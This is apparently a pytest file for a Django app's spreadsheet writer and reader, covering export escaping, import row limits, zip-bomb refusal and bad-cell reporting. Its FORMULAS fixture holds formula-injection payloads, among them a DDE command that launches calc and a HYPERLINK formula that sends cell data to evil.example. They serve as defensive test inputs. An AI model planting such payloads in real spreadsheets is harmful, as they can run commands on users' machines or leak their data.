"""The one Excel writer and reader (core/spreadsheets.py) and every export and import on them."""

import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from qualitymonth.campaigns.documents import registrations_workbook
from qualitymonth.complaints.documents import cases_workbook
from qualitymonth.complaints.models import Complaint
from qualitymonth.core import spreadsheets
from qualitymonth.core.spreadsheets import (
    SpreadsheetError,
    SpreadsheetWriter,
    read_sheet,
)
from qualitymonth.quiz.models import Question
from qualitymonth.quiz.services.bank import MAX_ROWS, bank_workbook, questions_import
from tests.factories import RegistrationFactory
from tests.xlsx import with_unreadable_text

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    " =1+1",
]
CONTROL = ["张\x01三", "坏\x1f字\x0b", "李\ufffe四\uffff"]
CONTROL_STORED = ["张\ufffd三", "坏\ufffd字\ufffd", "李\ufffd四\ufffd"]


def _cells(content: bytes) -> dict:
    """Every text cell of every sheet, by value."""
    book = load_workbook(io.BytesIO(content))
    cells = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str):
                    cells[cell.value] = cell
    return cells


def _assert_text(cells: dict, formulas=FORMULAS) -> None:
    for text in formulas:
        cell = cells[text]  # read back exactly as typed, no apostrophe added
        assert cell.data_type == "s" and cell.quotePrefix
    for text in CONTROL_STORED:
        assert cells[text].data_type == "s" and not cells[text].quotePrefix


def _xlsx(rows, *, sheet=None) -> io.BytesIO:
    book = Workbook()
    worksheet = book.active
    for row in rows:
        worksheet.append(row)
    if sheet:
        sheet(worksheet)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


# --- writing ----------------------------------------------------------------------------------
def test_the_writer_stores_formula_starters_and_control_characters_as_plain_text():
    book = SpreadsheetWriter()
    sheet = book.add_sheet("T", widths=[20])
    sheet.append(["标题"], bold=True)
    for text in FORMULAS + CONTROL:
        sheet.append([text, 3, None])
    sheet.append(["孤\ud800"])  # a lone surrogate cannot even be encoded
    cells = _cells(book.to_bytes())
    _assert_text(cells)
    assert "孤\ufffd" in cells
    assert cells["标题"].font.bold and not cells["标题"].quotePrefix


def test_the_writer_keeps_numbers_and_writes_aware_times_as_local_wall_clock():
    moment = dt.datetime(2025, 9, 1, 1, 30, tzinfo=dt.UTC)
    book = SpreadsheetWriter()
    book.add_sheet("T").append([3, 2.5, moment, dt.date(2025, 9, 1), "x" * 40_000])
    row = next(load_workbook(io.BytesIO(book.to_bytes())).active.iter_rows(values_only=True))
    assert row[:4] == (3, 2.5, timezone.localtime(moment).replace(tzinfo=None), row[3])
    assert len(row[4]) == spreadsheets.MAX_CELL_CHARS and row[4].endswith("…")


def test_registration_names_export_as_text(activity):
    names = [n for n in FORMULAS if len(n) <= 40]  # the column's length
    for name in names + CONTROL:
        RegistrationFactory(activity=activity, name=name)
    cells = _cells(registrations_workbook(activity, activity.registrations.all()))
    _assert_text(cells, formulas=names)


def test_registration_export_view_does_not_fail_on_a_control_character(staff_client, activity):
    RegistrationFactory(activity=activity, name="王\x01五")
    response = staff_client.get(f"/office/activities/{activity.pk}/registrations.xlsx")
    assert response.status_code == 200 and "王\ufffd五" in _cells(response.content)


def _question(stem: str) -> Question:
    return Question(
        kind="single",
        domain="metrology",
        difficulty=1,
        stem=stem,
        options=["=1+1", "乙"],
        answer=[1],
        explanation="@解析",
        source="",
    )


def test_question_stems_export_as_text():
    cells = _cells(bank_workbook([_question(stem) for stem in FORMULAS + CONTROL]))
    _assert_text(cells)
    assert cells["=1+1"].data_type == "s" and cells["@解析"].quotePrefix


def test_complaint_texts_export_as_text():
    cases = [
        Complaint(
            tracking_number=f"T{n}",
            received_at=timezone.now(),
            respondent_name=text,
            facts=text,
            complainant_name="李小红",
            complainant_mobile="13912345678",
        )
        for n, text in enumerate(FORMULAS + CONTROL)
    ]
    _assert_text(_cells(cases_workbook(cases, [True] * len(cases))))


def test_a_bank_export_with_formula_starters_re_imports_unchanged(office_user):
    content = bank_workbook([_question(stem) for stem in FORMULAS[:5]])
    result = questions_import(acting_user=office_user, file=io.BytesIO(content))
    assert result.ok, result.errors
    assert set(Question.objects.values_list("stem", flat=True)) == set(FORMULAS[:5])


# --- reading ----------------------------------------------------------------------------------
def _bad_cell_in_row_301() -> io.BytesIO:
    # U+FFFE in a cell: the XML holding it cannot be read back.
    rows = [["题型", "领域"]] + [["单选", f"计量{n}"] for n in range(2, 400)]
    rows[300][1] = "计量UNREADABLE"
    return with_unreadable_text(_xlsx(rows), "UNREADABLE")


def test_a_bad_cell_after_the_first_rows_is_reported_with_its_row_number():
    with pytest.raises(SpreadsheetError) as caught:
        read_sheet(_bad_cell_in_row_301(), max_rows=1000)
    assert [row for row, _message in caught.value.problems] == [301]
    assert "could not be read" in caught.value.problems[0][1]


def test_every_row_counts_against_the_limit_blank_ones_too():
    # One cell on Excel's last row: the million rows between are blank and are not in the file, so
    # the test stays fast while the reader still has to count its way through them.
    sheet = _xlsx([["标题"]], sheet=lambda ws: ws.cell(row=1_048_576, column=1, value="x"))
    with pytest.raises(SpreadsheetError) as caught:
        read_sheet(sheet, max_rows=500)
    (row, message), *_rest = caught.value.problems
    assert row == 502 and "more than 500 rows" in message


def test_rows_are_cut_to_the_columns_an_import_can_use():
    sheet = _xlsx([["标题"]], sheet=lambda ws: ws.cell(row=2, column=16_384, value="far"))
    rows = read_sheet(sheet, max_rows=10)
    assert [number for number, _values in rows] == [1, 2]
    assert all(len(values) == spreadsheets.MAX_COLUMNS for _n, values in rows)


def test_reading_stops_at_the_deadline():
    with pytest.raises(SpreadsheetError) as caught:
        read_sheet(_xlsx([["标题"], ["x"]]), max_rows=10, time_limit=0)
    assert "took too long" in caught.value.problems[0][1]


def test_a_control_character_in_a_readable_cell_is_named_by_its_cell():
    with pytest.raises(SpreadsheetError) as caught:
        read_sheet(_xlsx([["标题", "简介"], ["好", "坏\x7f"], ["好", "好"]]), max_rows=10)
    assert caught.value.problems[0][0] == 2 and caught.value.problems[0][1].startswith("B2: ")


def test_a_workbook_that_inflates_too_far_is_refused_before_it_is_read(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNCOMPRESSED_BYTES", 1000)
    with pytest.raises(SpreadsheetError) as caught:
        read_sheet(_xlsx([["标题"]]), max_rows=10)
    assert caught.value.problems[0][0] == 0 and "too large" in caught.value.problems[0][1]


def test_a_file_that_is_not_a_workbook_is_reported_as_the_file():
    with pytest.raises(SpreadsheetError) as caught:
        read_sheet(io.BytesIO(b"PK\x03\x04 not a zip"), max_rows=10)
    assert caught.value.problems[0][0] == 0


def test_the_bank_import_reports_a_bad_cell_by_row_and_imports_nothing(office_user):
    before = Question.objects.count()
    result = questions_import(acting_user=office_user, file=_bad_cell_in_row_301())
    assert [row for row, _message in result.errors] == [301]
    assert Question.objects.count() == before


def test_the_bank_import_refuses_a_sheet_longer_than_its_limit(office_user):
    header = ["题型", "领域", "难度", "题干", "选项A", "答案"]
    sheet = _xlsx([header], sheet=lambda ws: ws.cell(row=1_048_576, column=1, value="x"))
    result = questions_import(acting_user=office_user, file=sheet)
    assert result.errors[0][0] == MAX_ROWS + 2 and not Question.objects.exists()


def test_the_bank_import_view_answers_a_bad_cell_with_its_row(office_client):
    response = office_client.post(
        "/office/quiz/questions/import/", {"file": _upload(_bad_cell_in_row_301())}
    )
    assert response.status_code == 400 and "301" in response.content.decode()


def _upload(buffer: io.BytesIO):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("bank.xlsx", buffer.getvalue())
